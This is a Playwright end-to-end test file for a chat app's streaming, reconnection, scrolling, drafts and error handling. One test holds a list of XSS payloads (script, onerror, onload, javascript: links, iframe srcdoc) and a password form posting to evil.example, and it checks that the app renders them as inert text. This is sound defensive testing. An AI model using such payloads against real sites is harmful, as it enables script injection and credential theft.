import type { Page } from "playwright-core";
import { beforeAll, describe, expect, it } from "vitest";

import { api } from "../live/client.ts";
import { reply, type Step } from "../live/upstream.ts";
import {
  enter,
  held,
  inRoom,
  newTalk,
  noBrowser,
  PHONE,
  startWay,
  url,
  useBrowser,
  useUpstream,
  words,
} from "./harness.ts";

const { device, visit, complaints } = useBrowser();
const model = useUpstream();
let way: Awaited<ReturnType<typeof startWay>>;
beforeAll(async () => {
  way = await startWay();
});

const say = async (page: Page, text: string) => {
  await page.getByLabel("Write to Alex").fill(text);
  await page.getByRole("button", { name: "Send" }).click();
};

/** The words of the last reply that is shown, once it is whole. */
async function wholeReply(page: Page): Promise<string[]> {
  await page.getByRole("button", { name: "Another reply" }).waitFor();
  return wordsOf(await page.locator(".reply .md").last().innerText());
}
const wordsOf = (text: string) => text.split(/\s+/).filter(Boolean);

const storedReply = async (id: number, token: string) => {
  const history = await api<{ content: string; status: string }[]>(
    `${url}/chat/conversations/${id}/messages`,
    {
      token,
    },
  );
  return history.at(-1)!;
};

describe.skipIf(noBrowser)("a reply that is being written", () => {
  it("is whole after reloads at ten points of it, without a press of anything", async () => {
    const { id } = await newTalk();
    const page = await visit(`/c/${id}`);
    const points = Array.from({ length: 10 }, (_, i) => 10 * i + 5);
    const gates = points.map(() => Promise.withResolvers<void>());
    const steps = wordsOf(words(110)).map((word) => ({ text: `${word} ` }));
    model.upstream.next([
      ...steps.flatMap((step, i): Step[] => {
        const point = points.indexOf(i);
        return point < 0 ? [step] : [{ until: gates[point]!.promise }, step];
      }),
      { finish: "stop" },
      { done: true },
    ]);
    await say(page, "Tell me everything.");
    for (const [i, point] of points.entries()) {
      if (point > 0)
        await inRoom(page)
          .getByText(new RegExp(`\\bword${point}\\b`))
          .waitFor();
      await page.reload();
      await inRoom(page)
        .getByText(new RegExp(`\\bword${point}\\b`))
        .waitFor();
      gates[i]!.resolve();
    }
    expect(await wholeReply(page)).toEqual(wordsOf(words(110)));
    expect(complaints).toEqual([]);
    await page.close();
  });

  it("is seen on another device as it is written, and stopped from there with Escape, its text kept", async () => {
    const { account, id } = await newTalk();
    const desk = await visit(`/c/${id}`);
    const phone = await visit(`/c/${id}`, PHONE);
    await phone.getByLabel("Write to Alex").waitFor();
    const { steps } = held(60, 30);
    model.upstream.next(steps);
    await say(desk, "Say it to both of us.");
    await inRoom(desk).getByText("word30").waitFor();
    await inRoom(phone).getByText("word30").waitFor();
    await inRoom(phone).getByText("Say it to both of us.").waitFor();
    await phone.keyboard.press("Escape");
    for (const page of [desk, phone]) {
      await inRoom(page).getByText("You stopped this reply.").waitFor();
      expect(wordsOf(await page.locator(".reply .md").innerText())).toEqual(wordsOf(words(60)).slice(0, 30));
    }
    expect(await storedReply(id, account.token)).toMatchObject({ status: "stopped" });
    expect(complaints).toEqual([]);
    await desk.close();
    await phone.close();
  });

  it("goes on by itself when the network is back, also for a message that was sent without one", async () => {
    const { account, id } = await newTalk();
    const context = await device({ baseURL: way.url });
    const page = await enter(context, account, `/c/${id}`, way.url);
    const { steps, go } = held(60, 30);
    model.upstream.next(steps);
    await say(page, "Hold the line.");
    await inRoom(page).getByText("word30").waitFor();
    way.cut();
    go();
    await inRoom(page).getByText("waiting for the network…").waitFor();
    way.mend();
    expect(await wholeReply(page)).toEqual(wordsOf(words(60)));

    way.cut();
    await context.setOffline(true);
    model.upstream.next(reply("I am here."));
    await say(page, "Are you there?");
    await inRoom(page).getByText("waiting for the network…").waitFor();
    await page.getByText("You are offline. Nothing is lost").waitFor();
    way.mend();
    await context.setOffline(false);
    await inRoom(page).getByText("I am here.").waitFor();
    const history = await api<{ role: string; content: string }[]>(
      `${url}/chat/conversations/${id}/messages`,
      account,
    );
    expect(history.map(({ role }) => role)).toEqual(["user", "assistant", "user", "assistant"]);
    expect(complaints).toEqual([]);
    await context.close();
  });

  it("leaves the reader where they are, follows again at the end, and has text that can be selected", async () => {
    const { account, id } = await newTalk();
    model.upstream.next(reply(words(400)));
    await api(`${url}/chat/conversations/${id}/send`, {
      token: account.token,
      body: { content: "Long, please." },
    });
    const page = await visit(`/c/${id}`);
    await inRoom(page).getByText("word400").waitFor();
    const { steps, go } = held(300, 100);
    model.upstream.next(steps);
    await say(page, "And more.");
    await inRoom(page).getByText("word100", { exact: false }).last().waitFor();
    const scroll = page.locator(".scroll");
    await scroll.evaluate((area) => area.scrollTo(0, 200));
    await page.getByRole("button", { name: "To the newest message" }).waitFor();
    go();
    await page.getByRole("button", { name: "Another reply" }).waitFor({ state: "attached" });
    expect(await scroll.evaluate((area) => area.scrollTop)).toBe(200);
    await page.getByRole("button", { name: "To the newest message" }).click();
    await expect
      .poll(() => scroll.evaluate((area) => area.scrollHeight - area.clientHeight - area.scrollTop), {
        timeout: 60_000,
      })
      .toBeLessThan(2);
    await page.close();
  });
});

describe.skipIf(noBrowser)("a message", () => {
  it("stays a draft of its conversation until it is sent, through a reload", async () => {
    const { id } = await newTalk();
    const page = await visit(`/c/${id}`);
    await page.getByLabel("Write to Alex").fill("Not yet");
    await page.reload();
    expect(await page.getByLabel("Write to Alex").inputValue()).toBe("Not yet");
    await page.close();
  });

  it("that is refused comes back to its writer, under the server's own sentence and with what to do next", async () => {
    const { id } = await newTalk();
    const page = await visit(`/c/${id}`);
    const long = "a".repeat(4001);
    await say(page, long);
    await page.getByRole("alert").getByText("must have at most 4000 characters").waitFor();
    expect(await page.getByLabel("Write to Alex").inputValue()).toBe(long);
    const used = { code: "allowance_exceeded", detail: "Today's tokens are used up." };
    const resets_at = new Date(Date.now() + 5 * 3_600_000).toISOString();
    await page.route(/\/send$/, (route) => route.fulfill({ status: 429, json: { ...used, resets_at } }));
    await say(page, "More?");
    await page.getByRole("alert").getByText(`${used.detail} It begins anew in 5 hr`).waitFor();
    await page.getByRole("alert").getByRole("link", { name: "See your allowance" }).waitFor();
    await page.close();
  });

  it("whose reply fails says so in the server's words, and gets another on request", async () => {
    const { id } = await newTalk();
    const page = await visit(`/c/${id}`);
    model.upstream.next([{ status: 500, body: "{}" }]);
    await say(page, "Hello?");
    await inRoom(page).getByText("The language model failed to answer.").waitFor();
    model.upstream.next(reply("Now I am here."));
    await page.getByRole("button", { name: "Answer again" }).click();
    await inRoom(page).getByText("Now I am here.").waitFor();
    expect(await inRoom(page).getByText("The language model failed to answer.").count()).toBe(0);
    await page.close();
  });

  it("full of hostile markup is text, runs nothing and asks for nothing", async () => {
    const { id } = await newTalk();
    const page = await visit(`/c/${id}`);
    const asked: string[] = [];
    page.on("request", (request) => asked.push(new URL(request.url()).origin));
    const hostile = [
      `<script>document.title = "owned"</script>`,
      `<img src=x onerror="document.title='owned'">`,
      `<svg onload="document.title='owned'"><a xlink:href="javascript:document.title='owned'">x</a></svg>`,
      `[press](javascript:document.title='owned') [data](data:text/html,<script>1</script>) ![i](https://evil.example/i.png)`,
      `<iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>`,
      `\`\`\`html\n<style>*{display:none}</style>\n\`\`\``,
      `<form action="https://evil.example"><input name=password></form>`,
    ].join("\n\n");
    model.upstream.next(reply(hostile));
    await say(page, hostile);
    await page.getByRole("button", { name: "Another reply" }).waitFor();
    await page.reload();
    await page.getByRole("button", { name: "Another reply" }).waitFor();
    const voice = page.locator(".reply .voice");
    for (const tag of ["script", "img", "iframe", "form", "input", "style", "svg[onload]", "[onerror]"])
      expect(await voice.locator(tag).count(), tag).toBe(0);
    const links = await voice
      .locator("a")
      .evaluateAll((all) => all.map((a) => (a as HTMLAnchorElement).href));
    expect(links).toEqual(["https://evil.example/i.png"]);
    expect(await voice.innerText()).toContain(`<img src=x onerror="document.title='owned'">`);
    expect(await page.locator(".bubble").innerText()).toBe(hostile);
    expect(await page.title()).not.toBe("owned");
    expect([...new Set(asked)]).toEqual([url]);
    expect(complaints).toEqual([]);
    await page.close();
  });

  it("is copied as it was written, deleted on request and had back, in every tab", async () => {
    const { id } = await newTalk();
    const page = await visit(`/c/${id}`);
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    model.upstream.next(reply("This is **bold**."));
    await say(page, "Once only.");
    const last = page.locator(".reply.last");
    await last.getByRole("button", { name: "Copy" }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("This is **bold**.");
    const other = await visit(`/c/${id}`);
    await inRoom(other).getByText("bold").waitFor();
    // What is behind another tab is slow to be pressed.
    await page.bringToFront();
    await last.getByRole("button", { name: "More" }).click();
    await page.getByRole("menuitem", { name: "Delete" }).click();
    for (const tab of [page, other]) await inRoom(tab).getByText("Alex has not answered this yet.").waitFor();
    await page.getByRole("button", { name: "Have it back" }).click();
    for (const tab of [page, other]) await inRoom(tab).getByText("bold").waitFor();
    await page.close();
    await other.close();
  });
});
